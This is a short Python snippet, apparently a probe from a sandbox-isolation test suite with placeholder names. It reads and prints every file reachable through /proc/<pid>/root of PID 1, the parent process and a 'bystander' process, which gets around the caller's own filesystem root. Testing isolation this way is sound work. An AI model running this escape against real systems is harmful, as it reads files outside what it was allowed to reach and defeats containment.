"""The files of the machine are reached through the root and the folder of another process.

gains: read
"""

# %%
import os, pathlib

for pid in {1, os.getppid(), BYSTANDER}:
    folder = pathlib.Path(f"/proc/{pid}/root", COURSE.lstrip("/"))
    try:
        for path in folder.rglob("*"):
            if path.is_file():
                print(path.read_text(errors="replace"))
    except OSError:
        pass
